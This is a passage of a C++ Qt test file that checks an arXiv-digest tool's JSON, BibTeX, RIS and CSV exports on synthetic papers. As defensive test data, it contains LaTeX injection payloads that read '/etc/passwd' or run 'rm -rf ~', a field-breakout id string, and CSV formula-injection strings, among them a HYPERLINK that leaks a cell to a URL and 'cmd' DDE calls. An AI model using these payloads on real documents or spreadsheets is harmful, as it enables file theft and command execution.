// SPDX-License-Identifier: GPL-3.0-or-later
// The pure-string exports of lectern_core (JSON, BibTeX, RIS, CSV, HTML, monthly overview) and the digest
// loader's selections, on a synthetic day stored in a real SQLite file.
#include "digest/bibtexwriter.h"
#include "digest/digestbuilder.h"
#include "digest/digestcsv.h"
#include "digest/digesthtml.h"
#include "digest/digestjson.h"
#include "digest/digestloader.h"
#include "digest/monthlyoverview.h"
#include "digest/personname.h"
#include "digest/riswriter.h"
#include "scoring/authormatcher.h"
#include "store/paperstore.h"
#include "text/textounicode.h"

#include <testkit/bibreader.h>
#include <testkit/csvreader.h>
#include <testkit/fixtures.h>
#include <testkit/syntheticday.h>

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QSet>
#include <QTest>
#include <QUrlQuery>

using namespace Lectern;
using namespace Qt::StringLiterals;

namespace {

const QDate kDay(2026, 3, 17);
const QDate kOtherDay(2026, 3, 18);
const QDate kEmptyDay(2026, 3, 19); // a run, no papers
const QDate kApril(2026, 4, 1);

QString id(const QDate &day, int n)
{
    return u"%1%2.%3%4"_s.arg(day.year() % 100, 2, 10, QChar(u'0'))
        .arg(day.month(), 2, 10, QChar(u'0'))
        .arg(day.day(), 2, 10, QChar(u'0'))
        .arg(n, 3, 10, QChar(u'0'));
}

QStringList ids(const QDate &day, const QList<int> &numbers)
{
    QStringList out;
    for (int n : numbers)
        out << id(day, n);
    return out;
}

QStringList idsOf(const Digest &d)
{
    QStringList out;
    for (const DigestEntry &e : d.entries)
        out << e.paper.arxivId;
    return out;
}

DigestSettings settings()
{
    DigestSettings s;
    s.minRelevance = 8;
    s.minNovelty = 7;
    s.followedAuthors = Test::syntheticFollowedAuthors();
    return s;
}

std::unique_ptr<PaperStore> openStore(const QString &path)
{
    auto s = PaperStore::open(path);
    if (!s)
        qFatal("cannot open store: %s", qPrintable(s.error()));
    return std::move(s).value();
}

/// Two stored days, a day with a run but no papers, and one day in April.
std::unique_ptr<PaperStore> populatedStore(const Test::TempProfileDir &dir)
{
    auto store = openStore(dir.databasePath());
    Test::storeDay(*store, Test::syntheticDay(kDay));
    Test::storeDay(*store, Test::syntheticDay(kOtherDay));
    Test::SyntheticDay empty = Test::syntheticDay(kEmptyDay);
    empty.records.clear();
    empty.run.totalRelevant = 0;
    empty.run.cost = 0.05;
    Test::storeDay(*store, empty);
    Test::storeDay(*store, Test::syntheticDay(kApril));
    return store;
}

Digest dayDigest(const DigestFilter &filter = {})
{
    const Test::SyntheticDay day = Test::syntheticDay(kDay);
    Digest d =
        DigestBuilder::select(day.run, day.records, AuthorMatcher(Test::syntheticFollowedAuthors()), 8, 7);
    DigestLoader::narrow(d, filter);
    return d;
}

/// The columns of DigestCsv, in order.
enum CsvColumn {
    Id,
    Version,
    Title,
    Authors,
    Categories,
    Day,
    Relevance,
    Novelty,
    ScoredBy,
    Comment,
    Starred,
    Tags,
    Note,
    Url
};

QSet<QString> keysOf(const QJsonObject &o)
{
    const QStringList keys = o.keys();
    return QSet<QString>(keys.cbegin(), keys.cend());
}

} // namespace

class TestDigestExports : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void loaderDefaultIsTheDigest()
    {
        Test::TempProfileDir dir;
        auto store = populatedStore(dir);
        auto loaded = DigestLoader::day(*store, kDay, settings());
        QVERIFY2(loaded.ok(), qPrintable(loaded.error()));
        auto built =
            DigestBuilder::fromStore(*store, kDay, AuthorMatcher(Test::syntheticFollowedAuthors()), 8, 7);
        QVERIFY(built.ok());
        QCOMPARE(idsOf(*loaded), idsOf(*built));
        QCOMPARE(idsOf(*loaded), ids(kDay, {1, 2, 3, 4, 5, 6}));
        QCOMPARE(DigestBuilder::markdown(*loaded), DigestBuilder::markdown(*built));
        QCOMPARE(loaded->run.totalArxiv, 412);
    }

    void costIsSplitByTheModelsPrices()
    {
        Test::TempProfileDir dir;
        auto store = populatedStore(dir);
        DigestSettings withPrices = settings();
        withPrices.prices = PriceTable::defaults();
        auto loaded = DigestLoader::day(*store, kDay, withPrices);
        QVERIFY2(loaded.ok(), qPrintable(loaded.error()));
        // gpt-5: $1.25 in / $10 out per 1M, scaled so the parts add up to the $0.31 paid.
        QVERIFY(loaded->promptCost && loaded->completionCost);
        QCOMPARE(*loaded->promptCost + *loaded->completionCost, loaded->run.cost);
        QVERIFY(*loaded->completionCost > 5 * *loaded->promptCost);
        QVERIFY2(DigestBuilder::markdown(*loaded).contains(
                     u"| **Cost**    | $0.04    | $0.27        | $0.31   |"_s),
            qPrintable(DigestBuilder::markdown(*loaded).left(600)));
        // A model the table does not know keeps the honest "-".
        auto unknown = store->dayRun(kDay);
        DayRun run = **unknown;
        run.model = QStringLiteral("mystery-model");
        QVERIFY(store->saveDayRun(run).ok());
        auto other = DigestLoader::day(*store, kDay, withPrices);
        QVERIFY(!other->promptCost);
    }

    void loaderFilters_data()
    {
        QTest::addColumn<bool>("relevantOnly");
        QTest::addColumn<bool>("starredOnly");
        QTest::addColumn<QString>("tag");
        QTest::addColumn<int>("minRelevance");
        QTest::addColumn<int>("minNovelty");
        QTest::addColumn<QList<int>>("expected");
        // Every paper of the day, in digest order: author match, 17 (r10), 17, 17 (r9, by id), 17 (r8),
        // 16, 15, then the unscored one.
        QTest::newRow("all papers") << false << false << QString() << 0 << 0
                                    << QList<int> {1, 2, 3, 4, 5, 8, 6, 7};
        QTest::newRow("starred, any score") << false << true << QString() << 0 << 0 << QList<int> {3, 6, 7};
        QTest::newRow("starred in the digest") << true << true << QString() << 0 << 0 << QList<int> {3, 6};
        QTest::newRow("tag, any score") << false << false << u"to-read"_s << 0 << 0 << QList<int> {4, 8, 6};
        QTest::newRow("tag is case-blind") << true << false << u"Field-Work"_s << 0 << 0 << QList<int> {6};
        QTest::newRow("relevance 9 keeps author match")
            << true << false << QString() << 9 << 0 << QList<int> {1, 2, 3, 4};
        QTest::newRow("novelty 9") << true << false << QString() << 0 << 9 << QList<int> {1, 5};
        QTest::newRow("minimum drops unscored")
            << false << false << QString() << 1 << 0 << QList<int> {1, 2, 3, 4, 5, 8, 6};
        QTest::newRow("nothing") << true << true << u"field-work"_s << 10 << 10 << QList<int> {};
    }
    void loaderFilters()
    {
        QFETCH(bool, relevantOnly);
        QFETCH(bool, starredOnly);
        QFETCH(QString, tag);
        QFETCH(int, minRelevance);
        QFETCH(int, minNovelty);
        QFETCH(QList<int>, expected);
        Test::TempProfileDir dir;
        auto store = populatedStore(dir);
        const DigestFilter filter {relevantOnly, starredOnly, tag, minRelevance, minNovelty};
        auto d = DigestLoader::day(*store, kDay, settings(), filter);
        QVERIFY2(d.ok(), qPrintable(d.error()));
        QCOMPARE(idsOf(*d), ids(kDay, expected));
        // "Total relevant papers" is the day's (six over the settings' thresholds), whatever the view shows;
        // a narrower view says what it shows instead of passing its count off as the day's (issue 15.15).
        QCOMPARE(d->relevantCount(), 6);
        QCOMPARE(d->narrowed(), !relevantOnly || expected.size() != 6);
    }

    void rangeSkipsEmptyDaysOnlyWhenFiltered()
    {
        Test::TempProfileDir dir;
        auto store = populatedStore(dir);
        auto all = DigestLoader::range(*store, kDay, kEmptyDay, settings());
        QVERIFY(all.ok());
        QCOMPARE(all->size(), 3);
        QCOMPARE(all->at(0).run.date, kDay);
        QCOMPARE(all->at(1).run.date, kOtherDay);
        QCOMPARE(all->at(2).run.date, kEmptyDay);
        QVERIFY(all->at(2).entries.isEmpty());

        DigestFilter starred;
        starred.relevantOnly = false;
        starred.starredOnly = true;
        auto stars = DigestLoader::range(*store, kDay, kApril, settings(), starred);
        QVERIFY(stars.ok());
        QCOMPARE(stars->size(), 3); // the empty day is left out, April is in
        QCOMPARE(idsOf(stars->at(1)), ids(kOtherDay, {3, 6, 7}));
        QCOMPARE(stars->at(2).run.date, kApril);
    }

    void jsonHasEveryField()
    {
        Test::TempProfileDir dir;
        auto store = populatedStore(dir);
        DigestFilter everything;
        everything.relevantOnly = false;
        auto loaded = DigestLoader::day(*store, kDay, settings(), everything);
        QVERIFY(loaded.ok());
        Digest *d = &loaded.value();
        DigestBuilder::applyPrices(*d, 1.25, 10.0);
        const QJsonObject selection {{u"from"_s, u"2026-03-17"_s}};
        QJsonParseError error;
        const QJsonDocument doc = QJsonDocument::fromJson(DigestJson::write({*d}, selection), &error);
        QCOMPARE(error.error, QJsonParseError::NoError);
        const QJsonObject root = doc.object();
        QCOMPARE(root[u"format"_s].toString(), u"lectern-digest"_s);
        QCOMPARE(root[u"version"_s].toInt(), 1);
        QCOMPARE(root[u"selection"_s].toObject(), selection);
        const QJsonArray days = root[u"days"_s].toArray();
        QCOMPARE(days.size(), 1);
        const QJsonObject day = days[0].toObject();
        QCOMPARE(keysOf(day), (QSet<QString> {u"date"_s, u"run"_s, u"totals"_s, u"cost"_s, u"papers"_s}));
        QCOMPARE(day[u"date"_s].toString(), u"2026-03-17"_s);
        const QJsonObject run = day[u"run"_s].toObject();
        QCOMPARE(keysOf(run),
            (QSet<QString> {u"date"_s, u"categories"_s, u"totalArxiv"_s, u"totalScanned"_s,
                u"totalRelevant"_s, u"promptTokens"_s, u"completionTokens"_s, u"cost"_s, u"model"_s,
                u"promptText"_s, u"source"_s, u"complete"_s, u"statusNote"_s, u"updatedAt"_s}));
        QCOMPARE(run[u"promptTokens"_s].toInteger(), 31250);
        QCOMPARE(run[u"model"_s].toString(), u"gpt-5"_s);
        QCOMPARE(run[u"promptText"_s].toString(), d->run.promptText);
        QVERIFY(QDateTime::fromString(run[u"updatedAt"_s].toString(), Qt::ISODateWithMs)
                    .isValid()); // stamped by the store
        const QJsonObject totals = day[u"totals"_s].toObject();
        QCOMPARE(totals[u"arxiv"_s].toInt(), 412);
        QCOMPARE(totals[u"scanned"_s].toInt(), 233);
        QCOMPARE(totals[u"relevant"_s].toInt(), 6); // the day's, over the thresholds
        QCOMPARE(totals[u"shown"_s].toInt(), 8); // every paper of the day, as asked
        QCOMPARE(totals[u"selection"_s].toString(), u"all papers"_s);
        const QJsonObject cost = day[u"cost"_s].toObject();
        QCOMPARE(cost[u"prompt"_s].toDouble(), 31250 * 1.25 / 1e6);
        QCOMPARE(cost[u"total"_s].toDouble(), 0.3139);

        const QJsonArray papers = day[u"papers"_s].toArray();
        QCOMPARE(papers.size(), 8);
        for (qsizetype i = 0; i < papers.size(); ++i) {
            const QJsonObject p = papers[i].toObject();
            const DigestEntry &e = d->entries[i];
            QCOMPARE(keysOf(p),
                (QSet<QString> {
                    u"rank"_s, u"authorMatch"_s, u"matchedAuthors"_s, u"paper"_s, u"score"_s, u"state"_s}));
            QCOMPARE(p[u"rank"_s].toInt(), int(i + 1));
            const QJsonObject paper = p[u"paper"_s].toObject();
            QCOMPARE(keysOf(paper),
                (QSet<QString> {u"arxivId"_s, u"version"_s, u"versionedId"_s, u"title"_s, u"authors"_s,
                    u"abstract"_s, u"categories"_s, u"primaryCategory"_s, u"announceType"_s, u"announced"_s,
                    u"comments"_s, u"journalRef"_s, u"doi"_s, u"absUrl"_s, u"pdfUrl"_s}));
            QCOMPARE(paper[u"arxivId"_s].toString(), e.paper.arxivId);
            QCOMPARE(paper[u"title"_s].toString(), e.paper.title); // TeX as written
            QCOMPARE(paper[u"abstract"_s].toString(), e.paper.abstract);
            QCOMPARE(paper[u"authors"_s].toVariant().toStringList(), e.paper.authors);
            QCOMPARE(paper[u"announced"_s].toString(), u"2026-03-17"_s);
            QCOMPARE(paper[u"doi"_s].toString(), e.paper.doi);
            const QJsonObject state = p[u"state"_s].toObject();
            QCOMPARE(keysOf(state),
                (QSet<QString> {u"arxivId"_s, u"starred"_s, u"read"_s, u"dismissed"_s, u"tags"_s, u"note"_s,
                    u"updatedAt"_s}));
            QCOMPARE(state[u"starred"_s].toBool(), e.state.starred);
            QCOMPARE(state[u"tags"_s].toVariant().toStringList(), e.state.tags);
            QCOMPARE(state[u"note"_s].toString(), e.state.note);
            if (!e.score) {
                QVERIFY(p[u"score"_s].isNull());
                continue;
            }
            const QJsonObject score = p[u"score"_s].toObject();
            QCOMPARE(keysOf(score),
                (QSet<QString> {u"arxivId"_s, u"version"_s, u"relevance"_s, u"novelty"_s, u"comment"_s,
                    u"model"_s, u"promptHash"_s, u"promptTokens"_s, u"completionTokens"_s, u"cost"_s,
                    u"scoredAt"_s}));
            QCOMPARE(score[u"relevance"_s].toInt(), *e.score->relevance);
            QCOMPARE(score[u"novelty"_s].toInt(), *e.score->novelty);
            QCOMPARE(score[u"comment"_s].toString(), e.score->comment);
        }
        QCOMPARE(papers[0].toObject()[u"authorMatch"_s].toBool(), true);
        QCOMPARE(papers[0].toObject()[u"matchedAuthors"_s].toVariant().toStringList(),
            Test::syntheticFollowedAuthors());
        QVERIFY(papers[7].toObject()[u"score"_s].isNull()); // the unscored paper
        QVERIFY(
            papers[6].toObject()[u"state"_s].toObject()[u"updatedAt"_s].isString()); // stamped by the store
    }

    void jsonUnknownCostSplitIsNull()
    {
        const QJsonDocument doc = QJsonDocument::fromJson(DigestJson::write({dayDigest()}));
        const QJsonObject cost = doc[u"days"_s][0][u"cost"_s].toObject();
        QVERIFY(cost[u"prompt"_s].isNull());
        QVERIFY(cost[u"completion"_s].isNull());
        QCOMPARE(cost[u"total"_s].toDouble(), 0.3139);
    }

    void bibtexEscape_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("escaped");
        QTest::addColumn<QString>("readBack");
        QTest::newRow("ampersand") << u"Q&A for Bells"_s << u"Q\\&A for Bells"_s << u"Q&A for Bells"_s;
        QTest::newRow("percent") << u"100% Coverage"_s << u"100\\% Coverage"_s << u"100% Coverage"_s;
        QTest::newRow("math kept") << u"Rows $x_1$ and $\\mathcal{O}(n)$"_s
                                   << u"Rows $x_1$ and $\\mathcal{O}(n)$"_s
                                   << u"Rows $x_1$ and $\\mathcal{O}(n)$"_s;
        QTest::newRow("interval in math") << u"On $[0,1)$"_s << u"On $[0,1)$"_s << u"On $[0,1)$"_s;
        QTest::newRow("literal braces")
            << u"The set \\{1,2\\}"_s << u"The set \\textbraceleft{}1,2\\textbraceright{}"_s
            << u"The set {1,2}"_s;
        QTest::newRow("grouping braces")
            << u"Sets {A, B} of {GPU}s"_s << u"Sets A, B of GPUs"_s << u"Sets A, B of GPUs"_s;
        QTest::newRow("hash and underscore") << u"#hash_tags"_s << u"\\#hash\\_tags"_s << u"#hash_tags"_s;
        QTest::newRow("tex accent") << u"D\\'iaz"_s << u"Díaz"_s << u"Díaz"_s;
        QTest::newRow("non-ASCII") << u"Óskarsdóttir Ñúñez"_s << u"Óskarsdóttir Ñúñez"_s
                                   << u"Óskarsdóttir Ñúñez"_s;
        QTest::newRow("unknown macro")
            << u"see \\cite{x}"_s << u"see \\textbackslash{}cite\\textbraceleft{}x\\textbraceright{}"_s
            << u"see \\cite{x}"_s;
        QTest::newRow("tilde and caret") << u"\\textasciitilde and \\^{}"_s
                                         << u"\\textasciitilde{} and \\textasciicircum{}"_s << u"~ and ^"_s;
        QTest::newRow("escaped dollar") << u"costs \\$5"_s << u"costs \\$5"_s << u"costs $5"_s;
        QTest::newRow("unclosed dollar") << u"$5 only"_s << u"\\$5 only"_s << u"$5 only"_s;
        QTest::newRow("unbalanced math is text")
            << u"$\\{x$ open"_s << u"\\textbraceleft{}x open"_s << u"{x open"_s;
        QTest::newRow("line breaks") << u"Two\n   lines"_s << u"Two lines"_s << u"Two lines"_s;
    }
    void bibtexEscape()
    {
        QFETCH(QString, text);
        QFETCH(QString, escaped);
        QFETCH(QString, readBack);
        QCOMPARE(BibTeXWriter::escape(text), escaped);
        QCOMPARE(Test::unescapeBibTeX(escaped), readBack);
        // Any title parses back as one balanced field.
        Paper p = Test::makePaper(u"2603.00001"_s);
        p.title = text;
        QString error;
        const auto entries =
            Test::readBibTeX(BibTeXWriter::write({DigestEntry {p, {}, {}, false, {}, {}}}), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(entries.size(), 1);
        QCOMPARE(Test::unescapeBibTeX(entries[0].fields.value(u"title"_s)), readBack);
    }

    // Issue 12.3: LaTeX runs the math of a bibliography; math that reads or writes files or defines
    // commands is written as text, and harmless math stays math.
    void bibtexMathWithoutFileOrDefinitionCommands()
    {
        const QStringList refused {u"$\\input{/etc/passwd}$"_s, u"$\\include{x}$"_s,
            u"$\\immediate\\openout1=x.tex$"_s, u"$\\write18{rm -rf ~}$"_s, u"$\\def\\x{y}$"_s,
            u"$\\catcode`\\@=11$"_s, u"$^^5cinput{/etc/passwd}$"_s, u"\\(\\input x\\)"_s,
            u"$$\\newcommand{\\a}{b}$$"_s};
        static const QRegularExpression command(
            uR"(\\(input|include|openout|write|def|catcode|newcommand|immediate)(?![A-Za-z]))"_s);
        for (const QString &title : refused) {
            const QString escaped = BibTeXWriter::escape(u"On "_s + title + u" rows"_s);
            QVERIFY2(!command.match(escaped).hasMatch(), qPrintable(title + u" -> "_s + escaped));
            QVERIFY2(!escaped.contains(u"^^"_s), qPrintable(escaped));
        }
        QCOMPARE(BibTeXWriter::escape(u"$\\mathcal{O}(n^2)$ and $\\inputsize$"_s),
            u"$\\mathcal{O}(n^2)$ and $\\inputsize$"_s);
    }

    // Issue 12.3: an id that is not an arXiv id cannot break out of a BibTeX field or split a RIS record.
    void idsCannotBreakOutOfTheirField()
    {
        Paper p = Test::makePaper(u"2603.00001"_s);
        p.arxivId = u"2603.00001}, note={x\r\nER  - \r\nTY  - JOUR"_s;
        const DigestEntry e {p, {}, {}, false, {}, {}};
        QString error;
        const auto entries = Test::readBibTeX(BibTeXWriter::write({e, e}), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(entries.size(), 1);
        QVERIFY(!entries[0].fields.contains(u"note"_s));
        QVERIFY2(!entries[0].fields.value(u"eprint"_s).contains(u'}'),
            qPrintable(entries[0].fields.value(u"eprint"_s)));
        QVERIFY(!entries[0].fields.value(u"url"_s).contains(u' '));
        const auto records = Test::readRis(RisWriter::write({e}), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(records.size(), 1);
        QCOMPARE(records[0].values(u"TY"_s).size(), 1);
        QVERIFY(!records[0].value(u"UR"_s).contains(u' '));
    }

    void bibtexParsesBack()
    {
        const Digest d = dayDigest();
        const QString bib = BibTeXWriter::write(d.entries);
        QString error;
        const QList<Test::BibEntry> entries = Test::readBibTeX(bib, &error);
        QVERIFY2(error.isEmpty(), qPrintable(error + u"\n"_s + bib));
        QCOMPARE(entries.size(), d.entries.size());
        QSet<QString> keys;
        for (qsizetype i = 0; i < entries.size(); ++i) {
            const Test::BibEntry &b = entries[i];
            const Paper &p = d.entries[i].paper;
            QCOMPARE(b.type, u"misc"_s);
            keys.insert(b.key);
            QCOMPARE(b.fields.value(u"eprint"_s), p.arxivId);
            QCOMPARE(b.fields.value(u"archiveprefix"_s), u"arXiv"_s);
            QCOMPARE(b.fields.value(u"primaryclass"_s), u"math.CO"_s);
            QCOMPARE(b.fields.value(u"year"_s), u"2026"_s);
            QCOMPARE(b.fields.value(u"url"_s), p.absUrl());
            QStringList authors;
            for (const QString &a : p.authors)
                authors << PersonName::clean(a);
            QCOMPARE(Test::unescapeBibTeX(b.fields.value(u"author"_s)).split(u" and "_s), authors);
            QVERIFY(!b.fields.value(u"author"_s).contains(u'('));
        }
        QCOMPARE(keys.size(), entries.size());
        QCOMPARE(entries[0].key, u"oskarsdottir2026mapping"_s);
        QCOMPARE(entries[0].fields.value(u"author"_s), u"Maren Óskarsdóttir and Tobias Renn"_s);
        QCOMPARE(entries[1].fields.value(u"author"_s), u"Hal Quarter and Díaz Campanero"_s);
        QCOMPARE(entries[2].key, u"treble2026bells"_s);
        QCOMPARE(entries[2].fields.value(u"title"_s), u"Bells \\& Whistles: 100\\% Coverage of $x_1$ Rows"_s);
        QCOMPARE(entries[3].fields.value(u"title"_s), u"Sets A, B and \\#hash\\_tags in Ringing"_s);
        QCOMPARE(Test::unescapeBibTeX(entries[3].fields.value(u"abstract"_s)),
            u"Tags for methods: #plain_hunt and grandsire."_s);
        // The user's note, tags, DOI and journal reference of paper 6.
        const Test::BibEntry &moss = entries[5];
        QCOMPARE(moss.fields.value(u"doi"_s), u"10.1234/towers.2026.42"_s);
        QCOMPARE(moss.fields.value(u"note"_s), u"J. Tower Ecol. 12 (2026) 1-20"_s);
        QCOMPARE(moss.fields.value(u"keywords"_s), u"field-work, to-read"_s);
        QCOMPARE(
            moss.fields.value(u"annote"_s), u"Ask the authors for the tower list. check tower 12 \\& 13"_s);
        QVERIFY(!entries[0].fields.contains(u"annote"_s));
        // Stable: the same paper gets the same key in another file.
        QCOMPARE(BibTeXWriter::citationKey(d.entries[2].paper), u"treble2026bells"_s);
    }

    void bibtexKeys()
    {
        Paper a = Test::makePaper(u"2603.00001"_s);
        a.title = u"The Bells of $\\mathbb{Z}$"_s;
        a.authors = {u"Ludwig van Beethoven (Bonn)"_s};
        QCOMPARE(BibTeXWriter::citationKey(a), u"vanbeethoven2026bells"_s);
        Paper old = Test::makePaper(u"hep-th/9901001"_s);
        old.title = u"On a String"_s;
        old.authors = {u"Smith, John"_s};
        QCOMPARE(BibTeXWriter::citationKey(old), u"smith1999string"_s);
        QCOMPARE(BibTeXWriter::yearOf(u"math.GT/0309136"_s), 2003);
        QCOMPARE(BibTeXWriter::yearOf(u"0704.0001"_s), 2007);
        Paper noLatin = Test::makePaper(u"2603.00002"_s);
        noLatin.authors = {u"王小明"_s};
        QVERIFY(BibTeXWriter::citationKey(noLatin).startsWith(u"arxiv2026"_s));
        // Two papers that would share a key both get their id; a paper listed twice is written once.
        Paper b = a;
        b.arxivId = u"2603.00003"_s;
        const DigestEntry ea {a, {}, {}, false, {}, {}};
        const DigestEntry eb {b, {}, {}, false, {}, {}};
        QString error;
        const auto entries = Test::readBibTeX(BibTeXWriter::write({ea, eb, ea}), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(entries.size(), 2);
        QCOMPARE(entries[0].key, u"vanbeethoven2026bells-2603.00001"_s);
        QCOMPARE(entries[1].key, u"vanbeethoven2026bells-2603.00003"_s);
    }

    void risParsesBack()
    {
        const Digest d = dayDigest();
        const QString ris = RisWriter::write(d.entries);
        QString error;
        const QList<Test::RisRecord> records = Test::readRis(ris, &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(records.size(), d.entries.size());
        for (qsizetype i = 0; i < records.size(); ++i) {
            const Test::RisRecord &r = records[i];
            const Paper &p = d.entries[i].paper;
            QCOMPARE(r.lines.first().first, u"TY"_s);
            QCOMPARE(r.value(u"TI"_s), TexToUnicode::convert(p.title));
            QCOMPARE(r.values(u"AU"_s).size(), p.authors.size());
            QCOMPARE(r.value(u"AB"_s), TexToUnicode::convert(p.abstract));
            QCOMPARE(r.value(u"PY"_s), u"2026"_s);
            QCOMPARE(r.value(u"DA"_s), u"2026/03/17"_s);
            QCOMPARE(r.value(u"UR"_s), p.absUrl());
            QCOMPARE(r.value(u"AN"_s), u"arXiv:"_s + p.arxivId);
            QCOMPARE(r.value(u"ID"_s), BibTeXWriter::citationKey(p));
        }
        QCOMPARE(records[0].value(u"TY"_s), u"ELEC"_s);
        QCOMPARE(records[0].values(u"AU"_s), (QStringList {u"Óskarsdóttir, Maren"_s, u"Renn, Tobias"_s}));
        QCOMPARE(records[1].values(u"AU"_s), (QStringList {u"Quarter, Hal"_s, u"Campanero, Díaz"_s}));
        QCOMPARE(records[2].value(u"TI"_s), u"Bells & Whistles: 100% Coverage of x₁ Rows"_s);
        QCOMPARE(records[2].values(u"AU"_s), (QStringList {u"Treble, Ivy"_s, u"Ñúñez, Zoë"_s}));
        const Test::RisRecord &moss = records[5];
        QCOMPARE(moss.value(u"TY"_s), u"JOUR"_s);
        QCOMPARE(moss.value(u"JO"_s), u"J. Tower Ecol. 12 (2026) 1-20"_s);
        QCOMPARE(moss.value(u"DO"_s), u"10.1234/towers.2026.42"_s);
        QCOMPARE(moss.values(u"AU"_s), (QStringList {u"Belfry, Una"_s, u"van Beethoven, Ludwig"_s}));
        QCOMPARE(moss.values(u"KW"_s), (QStringList {u"field-work"_s, u"to-read"_s}));
        QCOMPARE(moss.value(u"N1"_s), u"Ask the authors for the tower list. / check tower 12 & 13"_s);
        QVERIFY(records[0].values(u"N1"_s).isEmpty());
    }

    void csvParsesBack()
    {
        const Digest d = dayDigest();
        const QByteArray bytes = DigestCsv::write({d});
        QVERIFY2(bytes.startsWith("\xEF\xBB\xBF"), "no UTF-8 byte order mark");
        QString error;
        const QList<Test::CsvRecord> rows = Test::readCsv(QString::fromUtf8(bytes.mid(3)), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(rows.size(), d.entries.size() + 1);
        QCOMPARE(rows[0].fields,
            (QStringList {u"arXiv id"_s, u"version"_s, u"title"_s, u"authors"_s, u"categories"_s, u"day"_s,
                u"relevance"_s, u"novelty"_s, u"scored by"_s, u"comment"_s, u"starred"_s, u"tags"_s,
                u"note"_s, u"URL"_s}));
        for (qsizetype i = 0; i < d.entries.size(); ++i) {
            const Test::CsvRecord &r = rows[i + 1];
            const DigestEntry &e = d.entries[i];
            QCOMPARE(r.fields.size(), 14);
            QCOMPARE(r.fields[Id], e.paper.arxivId);
            QCOMPARE(r.fields[Version], u"1"_s);
            QCOMPARE(r.fields[Title], TexToUnicode::convert(e.paper.title));
            QCOMPARE(r.fields[Categories], u"math.CO; q-bio.PE"_s);
            QCOMPARE(r.fields[Day], u"2026-03-17"_s);
            QCOMPARE(r.fields[Url], e.paper.absUrl());
            // Numbers bare, so that a spreadsheet reads them as numbers; every text field quoted.
            for (int c = 0; c < r.fields.size(); ++c)
                QCOMPARE(r.quoted[c], c != Version && c != Relevance && c != Novelty);
        }
        const Test::CsvRecord &lichen = rows[1];
        QCOMPARE(lichen.fields[Authors],
            u"Maren Óskarsdóttir (Reykjavik Institute of Lichens, Akureyri); Tobias Renn"_s);
        QCOMPARE(lichen.fields[Relevance], QString()); // an author match has no marks of its own
        QCOMPARE(lichen.fields[ScoredBy], QString());
        QCOMPARE(lichen.fields[Comment], u"Author match"_s);
        QCOMPARE(lichen.fields[Starred], u"no"_s);
        const Test::CsvRecord &stedman = rows[2];
        QCOMPARE(stedman.fields[Authors], u"Hal Quarter; Díaz Campanero"_s);
        QCOMPARE(stedman.fields[Relevance], u"10"_s);
        QCOMPARE(stedman.fields[Novelty], u"7"_s);
        QCOMPARE(stedman.fields[ScoredBy], u"gpt-5"_s);
        QCOMPARE(stedman.fields[Comment], u"Change ringing, core topic."_s);
        QCOMPARE(rows[3].fields[Title], u"Bells & Whistles: 100% Coverage of x₁ Rows"_s);
        QCOMPARE(rows[3].fields[Starred], u"yes"_s);
        QCOMPARE(rows[4].fields[Title], u"Sets A, B and #hash_tags in Ringing"_s); // TeX groups, as in RIS
        QCOMPARE(rows[4].fields[Tags], u"to-read"_s);
        const Test::CsvRecord &moss = rows[6];
        QCOMPARE(moss.fields[Tags], u"field-work; to-read"_s);
        QCOMPARE(moss.fields[Note], u"Ask the authors for the tower list.\ncheck tower 12 & 13"_s);
        QCOMPARE(moss.fields[Starred], u"yes"_s);
    }

    void csvSeveralDaysOneRowEach()
    {
        Test::TempProfileDir dir;
        auto store = populatedStore(dir);
        auto days = DigestLoader::range(*store, kDay, kOtherDay, settings());
        QVERIFY(days.ok());
        QString error;
        const auto rows = Test::readCsv(QString::fromUtf8(DigestCsv::write(*days).mid(3)), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(rows.size(), 1 + days->at(0).entries.size() + days->at(1).entries.size());
        QCOMPARE(rows[1].fields[Day], u"2026-03-17"_s);
        QCOMPARE(rows.last().fields[Day], u"2026-03-18"_s);
        QCOMPARE(rows.last().fields[Id], days->at(1).entries.last().paper.arxivId);
    }

    // Text that would break a record or run as a formula (OWASP "CSV Injection"), in every text column:
    // the file parses back to the same text, one line where the column is one line, with an apostrophe
    // before a formula's first character.
    void csvHostileFields_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("line"); // title, authors, comment, tags
        QTest::addColumn<QString>("note");
        QTest::newRow("commas and quotes")
            << u"Bells, \"towers\", and \"\"more\"\""_s << u"Bells, \"towers\", and \"\"more\"\""_s
            << u"Bells, \"towers\", and \"\"more\"\""_s;
        QTest::newRow("line breaks") << u"first\r\nsecond, \"2\"\nthird\rfourth"_s
                                     << u"first second, \"2\" third fourth"_s
                                     << u"first\r\nsecond, \"2\"\nthird\rfourth"_s;
        const QString link = u"=HYPERLINK(\"http://127.0.0.1:9/?leak=\"&A1,\"Open\")"_s;
        QTest::newRow("HYPERLINK") << link << u"'"_s + link << u"'"_s + link;
        const QString sum = u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
        QTest::newRow("@SUM") << sum << u"'"_s + sum << u"'"_s + sum;
        QTest::newRow("+1") << u"+1"_s << u"'+1"_s << u"'+1"_s;
        QTest::newRow("-2") << u"-2"_s << u"'-2"_s << u"'-2"_s;
        QTest::newRow("-2+3") << u"-2+3+cmd|' /C calc'!A0"_s << u"'-2+3+cmd|' /C calc'!A0"_s
                              << u"'-2+3+cmd|' /C calc'!A0"_s;
        QTest::newRow("tab") << u"\t=1+1"_s << u"'=1+1"_s << u"'\t=1+1"_s;
        QTest::newRow("carriage return") << u"\r=1+1"_s << u"'=1+1"_s << u"'\r=1+1"_s;
        QTest::newRow("spaces first") << u"  =1+1"_s << u"'=1+1"_s << u"'  =1+1"_s;
        QTest::newRow("full-width") << u"＝1+1"_s << u"'＝1+1"_s << u"'＝1+1"_s;
        QTest::newRow("signs inside")
            << u"Self-similar a=b, x+y @ 2 -3"_s << u"Self-similar a=b, x+y @ 2 -3"_s
